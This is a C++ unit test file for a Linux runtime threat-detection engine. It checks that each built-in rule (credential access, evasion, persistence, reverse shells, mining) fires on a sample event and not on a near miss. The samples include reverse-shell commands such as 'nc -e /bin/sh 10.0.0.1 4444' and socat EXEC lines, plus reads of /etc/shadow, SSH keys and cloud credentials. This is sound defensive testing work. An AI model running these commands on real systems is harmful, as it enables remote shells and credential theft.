// SPDX-License-Identifier: Apache-2.0
//
// The rules that ship: each has an event that fires it and a near miss that does not.
#include <gmock/gmock.h>
#include <linux/bpf.h>

#include <filesystem>
#include <map>
#include <set>

#include "rules/compile/compile.h"
#include "rules/match/match.h"
#include "tests/unit/rules/builtin/scene.h"

namespace picket {
namespace {

using test::Scene;
using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::Not;

constexpr int kRead = O_RDONLY;
constexpr int kWrite = O_WRONLY | O_CREAT | O_TRUNC;
constexpr int kAppend = O_WRONLY | O_CREAT | O_APPEND;
constexpr bool kCreated = true;

const auto kMemfd = [](Process& process) { process.exe_flags = PK_EXE_memfd | PK_EXE_unlinked | PK_EXE_tmpfs; };
const auto kUnlinked = [](Process& process) { process.exe_flags = PK_EXE_unlinked; };
const auto kOnTerminal = [](Process& process) { process.tty = 4 << 20 | 64; };
const auto kOnSocket = [](Process& process) { process.stdin_mode = process.stdout_mode = S_IFSOCK | 0777; };

Scene exec(const std::string& name, const std::string& exe, const std::string& args = {}) {
  return Scene::exec().by(name, exe, args).under("bash", "/usr/bin/bash").under("sshd", "/usr/sbin/sshd");
}

Scene open(const std::string& path, int flags, const std::string& name, const std::string& exe, bool created = false) {
  return Scene::open(path, flags, created).by(name, exe).under("bash", "/usr/bin/bash").under("sshd", "/usr/sbin/sshd");
}

Scene connect(const std::string& to, pk_u16 port, const std::string& name, const std::string& exe,
              const std::string& args = {}) {
  return Scene::connect(to, port).by(name, exe, args).under("bash", "/usr/bin/bash");
}

Scene from_shell(Scene scene, const std::string& name, const std::string& exe) {
  return scene.by(name, exe).under("bash", "/usr/bin/bash");
}

// A write by a script that a package brings.
Scene by_package(const std::string& path) {
  return Scene::open(path, kWrite, kCreated)
      .by("cp", "/usr/bin/cp")
      .under("sh", "/usr/bin/dash")
      .under("dpkg", "/usr/bin/dpkg");
}

Scene by_shell(Scene scene, const std::string& name, const std::string& exe) {
  return scene.by(name, exe).under("bash", "/usr/bin/bash").under("sshd", "/usr/sbin/sshd");
}

struct Row {
  const char* rule;
  Scene fires;
  Scene misses;
};

std::vector<Row> rows() {
  return {
      // ---- credential access ----
      {"Credential file read by untrusted program", open("/etc/shadow", kRead, "cat", "/usr/bin/cat"),
       open("/etc/shadow", kRead, "sudo", "/usr/bin/sudo")},
      {"Credential file read by untrusted program", open("/etc/sudoers.d/ops", O_RDWR, "sudo", "/tmp/sudo"),
       open("/etc/passwd", kRead, "cat", "/usr/bin/cat")},
      {"Credential file read by untrusted program", open("/etc/gshadow-", kRead, "sshd", "/usr/bin/python3.11"),
       Scene::open("/etc/shadow", kRead).by("grep", "/usr/bin/grep").under("dpkg", "/usr/bin/dpkg")},
      {"SSH private key read by other than SSH", open("/root/.ssh/id_ed25519", kRead, "cat", "/usr/bin/cat"),
       open("/root/.ssh/id_ed25519.pub", kRead, "cat", "/usr/bin/cat")},
      {"SSH private key read by other than SSH", open("/etc/ssh/ssh_host_rsa_key", kRead, "cp", "/usr/bin/cp"),
       open("/etc/ssh/ssh_host_rsa_key", kRead, "sshd", "/usr/sbin/sshd")},
      {"Cloud or cluster credentials read by file tool",
       open("/home/user/.aws/credentials", kRead, "cat", "/usr/bin/cat"),
       open("/home/user/.aws/credentials", kRead, "aws", "/usr/local/bin/aws")},
      {"Search for keys or passwords", exec("find", "/usr/bin/find", "/ -name id_rsa"),
       exec("find", "/usr/bin/find", "/ -name core")},
      {"Cloud metadata asked by untrusted program", connect("169.254.169.254", 80, "curl", "/usr/bin/curl"),
       connect("169.254.169.254", 53, "curl", "/usr/bin/curl")},
      {"Cloud metadata asked by untrusted program", connect("fd00:ec2::254", 80, "curl", "/usr/bin/curl"),
       connect("169.254.169.254", 80, "cloud-init", "/usr/bin/python3.11", "/usr/bin/cloud-init init")},
      {"Cloud metadata asked by untrusted program", connect("::ffff:169.254.169.254", 80, "bash", "/usr/bin/bash"),
       connect("169.254.1.1", 80, "curl", "/usr/bin/curl")},

      // ---- defense evasion ----
      {"Program run from memory", exec("3", "/memfd:x").with(kMemfd),
       Scene::exec().by("6", "/memfd:runc").with(kMemfd).under("containerd-shim", "/usr/bin/containerd-shim-runc-v2")},
      {"Deleted program run", exec("x", "/opt/x").with(kUnlinked), exec("x", "/opt/x")},
      {"Shell history tampered with", open("/root/.bash_history", kWrite, "bash", "/usr/bin/bash"),
       open("/root/.bash_history", kAppend, "bash", "/usr/bin/bash")},
      {"Shell history tampered with", open("/root/.bash_history", O_WRONLY, "shred", "/usr/bin/shred"),
       open("/root/.bash_history", kRead, "less", "/usr/bin/less")},
      {"System log emptied", open("/var/log/wtmp", kWrite, "bash", "/usr/bin/bash"),
       open("/var/log/wtmp", kAppend, "login", "/usr/bin/login")},

      {"BPF program loaded by unexpected program", from_shell(Scene::bpf(BPF_PROG_LOAD, "probe"), "x", "/opt/x"),
       from_shell(Scene::bpf(BPF_PROG_LOAD, "sd_devices"), "systemd", "/usr/lib/systemd/systemd")},
      {"BPF program loaded by unexpected program",
       from_shell(Scene::bpf(BPF_PROG_LOAD, "probe"), "bpftool", "/usr/sbin/bpftool"),
       from_shell(Scene::bpf(BPF_MAP_CREATE, "probe"), "bpftool", "/usr/sbin/bpftool")},
      {"Another kernel loaded for kexec", from_shell(Scene::kexec("/root/kernel", 1), "x", "/opt/x"),
       from_shell(Scene::kexec("/root/disk", 2), "x", "/opt/x")},
      {"Another kernel loaded for kexec",
       from_shell(Scene::kexec("/root/kernel", 1), "kexec", "/usr/sbin/kexec").with(kOnTerminal),
       from_shell(Scene::kexec("/boot/vmlinuz", 1), "kexec", "/usr/sbin/kexec")},
      {"Shell history removed", by_shell(Scene::unlink("/root/.bash_history"), "rm", "/usr/bin/rm"),
       by_shell(Scene::unlink("/root/.bash_history-00123.tmp"), "bash", "/usr/bin/bash")},
      {"Process hidden by a mount", by_shell(Scene::mount("/tmp/empty", "/proc/1234", 4096), "mount", "/usr/bin/mount"),
       by_shell(Scene::mount("/tmp/empty", "/proc/sys", 4096), "mount", "/usr/bin/mount")},
      {"Process hidden by a moved mount", by_shell(Scene::move_mount("/", "/proc/1234"), "mount", "/usr/bin/mount"),
       by_shell(Scene::move_mount("/", "/procedures/1"), "mount", "/usr/bin/mount")},

      // ---- discovery ----
      {"Network scanner started", exec("nmap", "/usr/bin/nmap", "-sS 10.0.0.0/8"), exec("ping", "/usr/bin/ping")},

      // ---- execution ----
      {"Program run from shared memory", exec("x", "/dev/shm/x"), exec("x", "/opt/dev/shm/x")},
      {"Program run from temporary directory", exec("x", "/tmp/x"), exec("x", "/opt/tmp/x")},
      {"Program run from temporary directory", exec("x", "/var/tmp/y/x"),
       Scene::exec().by("config", "/tmp/x.config").under("dpkg", "/usr/bin/dpkg")},
      {"Shell or interpreter on a socket", exec("bash", "/usr/bin/bash", "-i").with(kOnSocket),
       exec("bash", "/usr/bin/bash", "-i")},
      {"Shell or interpreter on a socket", exec("python3", "/usr/bin/python3.11").with(kOnSocket),
       Scene::exec().by("bash", "/usr/bin/bash").with(kOnSocket).under("sshd", "/usr/sbin/sshd")},
      {"Shell connected to the network", connect("10.0.0.1", 4444, "bash", "/usr/bin/bash"),
       connect("10.0.0.1", 443, "curl", "/usr/bin/curl")},
      {"Shell connected to the network", connect("2001:db8::1", 4444, "innocent", "/usr/bin/bash"),
       connect("/run/nscd/socket", 0, "bash", "/usr/bin/bash")},
      {"Shell redirected to the network", Scene::dup(0, 4444).by("bash", "/usr/bin/bash").under("sh", "/usr/bin/dash"),
       Scene::dup(0, 4444).by("sshd", "/usr/sbin/sshd").under("systemd", "/usr/lib/systemd/systemd")},
      {"Shell redirected to the network", Scene::dup(2, 1).by("py", "/usr/bin/python3.11").under("sh", "/usr/bin/dash"),
       Scene::dup(2, 0).by("python3", "/usr/bin/python3.11").under("sh", "/usr/bin/dash")},
      {"Packet or raw socket made by untrusted program",
       Scene::socket(17, 3, 768).by("x", "/opt/x").under("sh", "/usr/bin/dash"),
       Scene::socket(17, 3, 768).by("dhclient", "/usr/sbin/dhclient").under("sh", "/usr/bin/dash")},
      {"Packet or raw socket made by untrusted program",
       Scene::socket(10, 3, 58).by("x", "/opt/x").under("sh", "/usr/bin/dash"),
       Scene::socket(16, 3).by("ip", "/usr/sbin/ip").under("sh", "/usr/bin/dash")},
      {"Kernel crypto interface opened", Scene::socket(38, 5).by("x", "/opt/x").under("sh", "/usr/bin/dash"),
       Scene::socket(38, 5).by("cryptsetup", "/usr/sbin/cryptsetup").under("sh", "/usr/bin/dash")},
      {"Netcat that runs a program", exec("nc", "/usr/bin/nc.traditional", "-e /bin/sh 10.0.0.1 4444"),
       exec("nc", "/usr/bin/nc.traditional", "-z 10.0.0.1 22")},
      {"Netcat that runs a program", exec("socat", "/usr/bin/socat", "TCP:10.0.0.1:4444 EXEC:/bin/sh"),
       exec("socat", "/usr/bin/socat", "- TCP:10.0.0.1:4444")},
      {"Shell spawned by web server", Scene::exec().by("sh", "/usr/bin/dash").under("nginx", "/usr/sbin/nginx"),
       Scene::exec().by("nginx", "/usr/sbin/nginx").under("sh", "/usr/bin/dash")},
      {"Shell spawned by web server",
       Scene::exec()
           .by("x", "/usr/bin/bash")
           .under("perl", "/usr/bin/perl")
           .under("php-fpm8.2", "/usr/sbin/php-fpm8.2"),
       Scene::exec().by("perl", "/usr/bin/perl").under("php-fpm8.2", "/usr/sbin/php-fpm8.2")},
      {"Shell spawned by database or application server",
       Scene::exec().by("sh", "/usr/bin/dash").under("redis-server", "/usr/bin/redis-server"),
       Scene::exec().by("sh", "/usr/bin/dash").under("make", "/usr/bin/make").under("java", "/usr/bin/java")},

      // ---- impact ----
      {"Cryptocurrency miner started", exec("x", "/opt/x", "-o stratum+tcp://pool.example:3333"),
       exec("x", "/opt/x", "-o tcp://pool.example:3333")},

      // ---- persistence ----
      {"Preloaded library configured", open("/etc/ld.so.preload", kWrite, "sh", "/usr/bin/dash", kCreated),
       open("/etc/ld.so.preload", kRead, "ls", "/usr/bin/ls")},
      {"Cron job written", open("/etc/cron.d/x", kWrite, "sh", "/usr/bin/dash", kCreated), by_package("/etc/cron.d/x")},
      {"Cron job written", open("/var/spool/cron/crontabs/root", kWrite, "crontab", "/usr/bin/crontab"),
       open("/etc/crontab", kRead, "cron", "/usr/sbin/cron")},
      {"Systemd unit written", open("/etc/systemd/system/x.service", kWrite, "cp", "/usr/bin/cp", kCreated),
       by_package("/usr/lib/systemd/system/x.service")},
      {"Systemd unit written", open("/home/user/.config/systemd/user/x.service", kWrite, "cp", "/usr/bin/cp", kCreated),
       open("/run/systemd/system/x.service", kWrite, "systemd", "/usr/lib/systemd/systemd", kCreated)},
      {"Authorized SSH keys written", open("/root/.ssh/authorized_keys", kAppend, "bash", "/usr/bin/bash"),
       open("/root/.ssh/authorized_keys", kRead, "sshd", "/usr/sbin/sshd")},
      {"Kernel module file written", open("/usr/lib/modules/6.1.0/extra/x.ko", kWrite, "cp", "/usr/bin/cp", kCreated),
       open("/usr/lib/modules/6.1.0/modules.dep", kWrite, "depmod", "/usr/bin/kmod")},
      {"Authentication module or configuration written", open("/etc/pam.d/sshd", kAppend, "sh", "/usr/bin/dash"),
       by_package("/etc/pam.d/sshd")},
      {"Account database written", open("/etc/passwd", kAppend, "bash", "/usr/bin/bash"),
       open("/etc/passwd", kWrite, "useradd", "/usr/sbin/useradd")},
      {"Sudo rules written", open("/etc/sudoers.d/x", kWrite, "tee", "/usr/bin/tee", kCreated),
       open("/etc/sudoers", kWrite, "visudo", "/usr/sbin/visudo")},
      {"Shell profile written", open("/root/.bashrc", kAppend, "bash", "/usr/bin/bash"),
       open("/root/.bashrc", kRead, "bash", "/usr/bin/bash")},
      {"Write below program directory", open("/usr/bin/ls", kWrite, "cp", "/usr/bin/cp"), by_package("/usr/bin/ls")},
      // Opened for reading only, and yet created or emptied.
      {"Write below program directory", open("/usr/local/bin/x", O_RDONLY | O_CREAT, "x", "/opt/x", kCreated),
       open("/usr/local/bin/x", O_RDONLY | O_CREAT, "x", "/opt/x")},
      {"Write below etc", open("/etc/motd", O_RDONLY | O_TRUNC, "x", "/opt/x"),
       open("/etc/motd", kRead, "x", "/opt/x")},
      {"Write below etc", open("/etc/hosts", kWrite, "vi", "/usr/bin/vim.basic"),
       open("/etc/hosts", kWrite, "dockerd", "/usr/bin/dockerd")},

      // ---- privilege escalation ----
      {"Kernel helper path written", open("/proc/sys/kernel/core_pattern", O_WRONLY, "sh", "/usr/bin/dash"),
       open("/proc/sys/kernel/core_pattern", O_WRONLY, "systemd-sysctl", "/usr/lib/systemd/systemd-sysctl")},
      {"Container runtime asked by untrusted program", connect("/var/run/docker.sock", 0, "curl", "/usr/bin/curl"),
       connect("/var/run/docker.sock", 0, "docker", "/usr/bin/docker")},
      {"Kernel module loaded from unusual place", from_shell(Scene::module("/root/x.ko"), "insmod", "/usr/bin/kmod"),
       from_shell(Scene::module("/usr/lib/modules/6.1.0/x.ko"), "modprobe", "/usr/bin/kmod")},
      {"Kernel module loaded from unusual place", from_shell(Scene::module("/lib/modulesx/x.ko"), "x", "/opt/x"),
       from_shell(Scene::module("/lib/modules/6.1.0/x.ko"), "x", "/opt/x")},
      {"Kernel module loaded from memory", from_shell(Scene::module(), "kmod", "/opt/kmod"),
       from_shell(Scene::module(), "modprobe", "/usr/bin/kmod")},
      {"Compressed kernel module from unusual place", open("/root/x.ko.xz", kRead, "insmod", "/usr/bin/kmod"),
       open("/usr/lib/modules/6.1.0/x.ko.xz", kRead, "modprobe", "/usr/bin/kmod")},
      {"Page faults taken over by unexpected program", from_shell(Scene::userfaultfd(), "x", "/home/user/x"),
       from_shell(Scene::userfaultfd(), "qemu-system-x86", "/usr/bin/qemu-system-x86_64")},
  };
}

class Builtin : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    compiled_ = new Compiled(compile(policy::load({PICKET_SOURCE_DIR "/rules/builtin"})));
    matcher_ = new Matcher(compiled_->policy);
  }
  static void TearDownTestSuite() {
    delete matcher_;
    delete compiled_;
  }

  const Rule* match(const Scene& scene) { return matcher_->first_match(scene.event(names_), scratch_); }

  static inline Compiled* compiled_ = nullptr;
  static inline Matcher* matcher_ = nullptr;
  test::FakeNames names_;
  Scratch scratch_;
};

std::string name_of(const Rule* rule) { return rule ? rule->name : "no rule"; }

TEST_F(Builtin, CompilesWithoutAWord) {
  for (const Diagnostic& diagnostic : compiled_->diagnostics) ADD_FAILURE() << render(diagnostic);
  EXPECT_GE(compiled_->policy.rules.size(), 14u);
}

TEST_F(Builtin, EachRowFiresItsRuleAndItsNearMissFiresNone) {
  for (const Row& row : rows()) {
    EXPECT_EQ(name_of(match(row.fires)), row.rule);
    EXPECT_EQ(name_of(match(row.misses)), "no rule") << "near miss of " << row.rule;
  }
}

TEST_F(Builtin, EveryRuleHasARow) {
  std::set<std::string> shown;
  for (const Row& row : rows()) shown.insert(row.rule);
  for (const Rule& rule : compiled_->policy.rules) EXPECT_TRUE(shown.contains(rule.name)) << rule.name;
}

TEST_F(Builtin, OutputsNameWhatIsKnown) {
  for (const Row& row : rows()) {
    const Rule* rule = match(row.fires);
    ASSERT_NE(rule, nullptr) << row.rule;
    std::string output;
    const Event event = row.fires.event(names_);
    append_output(output, rule->output, event, scratch_);
    EXPECT_THAT(output, Not(HasSubstr("<NA>"))) << row.rule;
    for (const std::string* part : {&event.process->cmdline, &event.process->exe_path, &event.process->parent->comm}) {
      EXPECT_THAT(output, HasSubstr(*part)) << row.rule;
    }
    EXPECT_THAT(output, HasSubstr("user=root")) << row.rule;
  }
}

// T1234 or T1234.567
bool is_technique(const std::string& tag) {
  const bool sub = tag.size() == 9 && tag[5] == '.';
  if (tag[0] != 'T' || !(tag.size() == 5 || sub)) return false;
  return tag.find_first_not_of("0123456789", 1) == (sub ? 5 : tag.npos);
}

// Each file is a tactic, and every rule in it has that tactic and a technique.
TEST_F(Builtin, EveryRuleIsPlacedInAttack) {
  for (const Rule& rule : compiled_->policy.rules) {
    const std::string tactic = "mitre_" + std::filesystem::path(rule.where.file).stem().string();
    EXPECT_TRUE(std::any_of(rule.tags.begin(), rule.tags.end(), is_technique)) << rule.name;
    EXPECT_THAT(rule.tags, Contains(tactic)) << rule.name;
    EXPECT_FALSE(rule.description.empty()) << rule.name;
  }
}

// The first rule that matches is the one that is reported, so the more particular one must come first.
TEST_F(Builtin, ParticularRulesComeBeforeGeneralOnes) {
  std::map<std::string, std::size_t> places;
  for (const Rule& rule : compiled_->policy.rules) places.emplace(rule.name, places.size());
  for (const auto& [name, place] : places) {
    const auto& rule = compiled_->policy.rules[place];
    const bool persistence = rule.where.file.ends_with("persistence.yaml");
    if (persistence && !name.starts_with("Write below")) {
      EXPECT_LT(place, places.at("Write below etc")) << name;
      EXPECT_LT(place, places.at("Write below program directory")) << name;
    }
  }
  EXPECT_LT(places.at("Cloud metadata asked by untrusted program"), places.at("Shell connected to the network"));
  EXPECT_LT(places.at("Program run from memory"), places.at("Shell or interpreter on a socket"));
  EXPECT_LT(places.at("Program run from shared memory"), places.at("Shell spawned by web server"));
}

}  // namespace
}  // namespace picket
